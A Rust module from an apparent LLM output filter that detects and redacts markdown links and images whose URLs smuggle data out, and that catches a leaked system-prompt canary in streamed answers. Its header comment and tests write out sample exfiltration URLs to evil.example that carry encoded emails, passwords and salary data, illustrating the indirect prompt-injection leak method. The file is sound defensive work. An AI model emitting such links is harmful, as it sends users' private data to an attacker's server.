//! Answers: links and images whose URLs carry data out (the classic exfiltration of an
//! indirect prompt injection: `![](https://evil.example/log?q=<the user's data>)`, which
//! a chat UI fetches without a click), and a leaked system-prompt canary.

use std::sync::OnceLock;

use regex::Regex;

use crate::{Category, Finding};

fn url_re() -> &'static Regex {
    static R: OnceLock<Regex> = OnceLock::new();
    R.get_or_init(|| {
        Regex::new(r#"(?i)(!?)\[[^\]]{0,200}\]\(\s*<?(https?://[^\s)>]+)|<img\b[^>]*\bsrc\s*=\s*["']?(https?://[^\s"'>]+)"#)
            .unwrap_or_else(|e| panic!("exfiltration pattern: {e}"))
    })
}

/// How much data a URL carries in its query and path, roughly: the longest query value
/// or path segment, and whether any looks encoded (base64/hex/percent runs).
fn payload(url: &str) -> (usize, bool) {
    let after_host = url.splitn(4, '/').nth(3).unwrap_or("");
    let parts = after_host.split(['?', '&', '/', '=', '#']);
    let longest = parts.clone().map(str::len).max().unwrap_or(0);
    let encoded = parts.clone().any(|p| {
        p.len() >= 24
            && (p.bytes().all(|b| {
                b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'-' | b'_' | b'=')
            }) || p.matches('%').count() >= 4)
    });
    (longest, encoded)
}

/// Exfiltration-shaped links and images in an answer. An image is fetched by the client
/// on render, so any image URL carrying a payload counts; a link needs a larger one.
pub fn scan(text: &str, findings: &mut Vec<Finding>) {
    for c in url_re().captures_iter(text) {
        let (image, url) = match (c.get(1), c.get(2), c.get(3)) {
            (Some(bang), Some(u), _) => (bang.as_str() == "!", u),
            (_, _, Some(u)) => (true, u),
            _ => continue,
        };
        let (longest, encoded) = payload(url.as_str());
        let suspicious = if image {
            longest >= 16 || encoded
        } else {
            longest >= 48 || encoded
        };
        if suspicious {
            let what = if image { "an image" } else { "a link" };
            findings.push(Finding::new(
                Category::Exfiltration,
                if image {
                    "exfiltration_image"
                } else {
                    "exfiltration_link"
                },
                (url.start(), url.end()),
                if image { 0.9 } else { 0.7 },
                format!(
                    "{what} whose URL carries data ({longest} characters in one part{})",
                    if encoded { ", encoded" } else { "" }
                ),
            ));
        }
    }
}

/// A canary placed in the system prompt that shows up in an answer: the prompt leaked.
pub fn canary(text: &str, canary: &str, findings: &mut Vec<Finding>) {
    if canary.is_empty() {
        return;
    }
    if let Some(i) = text.find(canary) {
        findings.push(Finding::new(
            Category::Exfiltration,
            "system_prompt_leak",
            (i, i + canary.len()),
            0.99,
            "the answer contains the system prompt's canary: the system prompt leaked".into(),
        ));
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn kinds(text: &str) -> Vec<&'static str> {
        let mut f = Vec::new();
        scan(text, &mut f);
        f.iter().map(|f| f.kind).collect()
    }

    #[test]
    fn images_and_links_that_carry_data() {
        assert_eq!(
            kinds("![logo](https://cdn.example.com/logo.png)"),
            Vec::<&str>::new()
        );
        assert_eq!(
            kinds("see [docs](https://docs.example.com/guide/install)"),
            Vec::<&str>::new()
        );
        assert_eq!(
            kinds("![x](https://evil.example/p?d=am9obkBleGFtcGxlLmNvbSBwYXNzd29yZA)"),
            ["exfiltration_image"]
        );
        assert_eq!(
            kinds("<img src=\"https://evil.example/c?q=alice%40corp.com%20salary%2090000\">"),
            ["exfiltration_image"]
        );
        assert_eq!(
            kinds("[click](https://evil.example/?q=the-users-full-conversation-history-goes-here-and-more)"),
            ["exfiltration_link"]
        );
        let mut f = Vec::new();
        canary(
            "sure, my instructions say CANARY-1234",
            "CANARY-1234",
            &mut f,
        );
        assert_eq!(f[0].kind, "system_prompt_leak");
    }
}

/// Exfiltration links and images in `text`: their kinds, and the text with their URLs
/// replaced by `[BLOCKED_URL]` when `redact` (else unchanged).
pub fn defuse(text: &str, redact: bool) -> (String, Vec<&'static str>) {
    let mut f = Vec::new();
    scan(text, &mut f);
    let kinds = f.iter().map(|x| x.kind).collect();
    if f.is_empty() || !redact {
        return (text.to_owned(), kinds);
    }
    let mut out = String::with_capacity(text.len());
    let mut at = 0;
    for x in &f {
        out.push_str(&text[at..x.start]);
        out.push_str("[BLOCKED_URL]");
        at = x.end;
    }
    out.push_str(&text[at..]);
    (out, kinds)
}

/// Longest link or image held back while it is still being written.
pub const MAX_HELD: usize = 2048;

/// Where a link or image that may still be unfinished starts in `s`, if anywhere.
fn open_link(s: &str) -> Option<usize> {
    let mut best = None;
    if let Some(i) = s.rfind('[') {
        let after = &s[i..];
        let open = match after.find(']') {
            None => true,
            Some(j) => {
                let rest = &after[j + 1..];
                rest.is_empty() || (rest.starts_with('(') && !rest.contains(')'))
            }
        };
        if open {
            // Include the `!` of an image.
            best = Some(if i > 0 && s.as_bytes()[i - 1] == b'!' {
                i - 1
            } else {
                i
            });
        }
    }
    if let Some(i) = s.rfind('<') {
        let after = &s[i..];
        let maybe_img = "<img".starts_with(&after[..after.len().min(4)].to_ascii_lowercase())
            || after.to_ascii_lowercase().starts_with("<img");
        if maybe_img && !after.contains('>') {
            best = Some(best.map_or(i, |b: usize| b.min(i)));
        }
    }
    best.filter(|&b| s.len() - b <= MAX_HELD)
}

/// Screens a streamed answer for exfiltration links and images: text passes at once
/// except a link or image still being written, which waits until it is complete (or
/// [`MAX_HELD`] bytes long), so a URL split across chunks is judged whole.
#[derive(Debug, Default)]
pub struct LinkGate {
    pending: String,
    /// Kinds found so far.
    pub found: Vec<&'static str>,
    /// Replace exfiltration URLs with `[BLOCKED_URL]` (else only record them).
    pub redact: bool,
}

impl LinkGate {
    pub fn new(redact: bool) -> Self {
        LinkGate {
            redact,
            ..LinkGate::default()
        }
    }

    fn screen(&mut self, text: &str) -> String {
        let (out, found) = defuse(text, self.redact);
        self.found.extend(found);
        out
    }

    /// Screened text that can be sent now.
    pub fn push(&mut self, piece: &str) -> String {
        self.pending.push_str(piece);
        let cut = open_link(&self.pending).unwrap_or(self.pending.len());
        let ready: String = self.pending.drain(..cut).collect();
        self.screen(&ready)
    }

    /// Whatever is held back, at the end of the stream.
    pub fn finish(&mut self) -> String {
        let rest = std::mem::take(&mut self.pending);
        self.screen(&rest)
    }
}

#[cfg(test)]
mod gate_tests {
    use super::*;
    use proptest::prelude::*;

    fn whole(text: &str) -> String {
        let mut g = LinkGate::new(true);
        g.push(text) + &g.finish()
    }

    #[test]
    fn a_split_image_is_judged_whole() {
        let text = "Here: ![x](https://evil.example/p?d=am9obkBleGFtcGxlLmNvbSBwYXNzd29yZA) done, see [docs](https://docs.example.com/a) [1].";
        let want = "Here: ![x]([BLOCKED_URL]) done, see [docs](https://docs.example.com/a) [1].";
        assert_eq!(whole(text), want);
        for i in 0..=text.len() {
            let mut g = LinkGate::new(true);
            let got = g.push(&text[..i]) + &g.push(&text[i..]) + &g.finish();
            assert_eq!(got, want, "split at {i}");
        }
    }

    #[test]
    fn ordinary_brackets_are_not_held() {
        let mut g = LinkGate::new(true);
        assert_eq!(g.push("see [1] and a < b "), "see [1] and a < b ");
        assert_eq!(g.push("then [docs"), "then ");
        assert_eq!(g.push("]"), "");
        assert_eq!(g.push(" ok"), "[docs] ok");
    }

    proptest! {
        /// Chunking never changes the result.
        #[test]
        fn chunking_invariant(
            parts in proptest::collection::vec(prop_oneof![
                "[a-z <>!\\[\\]()/.:?=]{0,8}",
                Just("![i](https://e.example/x?q=aGVsbG8gd29ybGQgaGVsbG8gd29ybGQ=)".to_owned()),
                Just("[t](https://d.example/y)".to_owned()),
                Just("<img src=\"https://e.example/c?q=%61%62%63%64%65\">".to_owned()),
            ], 0..8),
            cut in 0usize..200,
        ) {
            let text = parts.concat();
            let mut c = cut.min(text.len());
            while !text.is_char_boundary(c) { c -= 1; }
            let mut g = LinkGate::new(true);
            let got = g.push(&text[..c]) + &g.push(&text[c..]) + &g.finish();
            prop_assert_eq!(got, whole(&text));
        }
    }
}

/// Watches a streamed answer for a canary: holds back only a tail that could be the
/// start of it, so a canary split across chunks is still seen.
#[derive(Debug)]
pub struct CanaryWatch {
    token: String,
    pending: String,
    /// The canary appeared: the system prompt is leaking.
    pub leaked: bool,
}

impl CanaryWatch {
    pub fn new(token: &str) -> Self {
        CanaryWatch {
            token: token.to_owned(),
            pending: String::new(),
            leaked: false,
        }
    }

    /// Text that can be sent now (nothing once the canary has been seen).
    pub fn push(&mut self, piece: &str) -> String {
        if self.leaked {
            return String::new();
        }
        self.pending.push_str(piece);
        if self.pending.contains(&self.token) {
            self.leaked = true;
            self.pending.clear();
            return String::new();
        }
        // Keep the longest suffix that is a prefix of the token.
        let keep = (1..self.token.len().min(self.pending.len() + 1))
            .rev()
            .find(|&n| {
                self.pending.is_char_boundary(self.pending.len() - n)
                    && self
                        .token
                        .starts_with(&self.pending[self.pending.len() - n..])
            })
            .unwrap_or(0);
        let cut = self.pending.len() - keep;
        self.pending.drain(..cut).collect()
    }

    pub fn finish(&mut self) -> String {
        if self.leaked {
            return String::new();
        }
        std::mem::take(&mut self.pending)
    }
}

#[cfg(test)]
mod canary_tests {
    use super::*;

    #[test]
    fn a_split_canary_is_caught_and_nothing_of_it_passes() {
        let token = "bwc-0123456789abcdef";
        let text = format!("Sure, my instructions end with {token} and more");
        for i in 0..=text.len() {
            let mut w = CanaryWatch::new(token);
            let got = w.push(&text[..i]) + &w.push(&text[i..]) + &w.finish();
            assert!(w.leaked, "split at {i}");
            assert!(!got.contains("bwc-0123"), "split at {i}: {got}");
        }
        let mut w = CanaryWatch::new(token);
        assert_eq!(w.push("harmless bw"), "harmless ");
        assert_eq!(w.push("x text"), "bwx text");
        assert!(!w.leaked);
    }
}
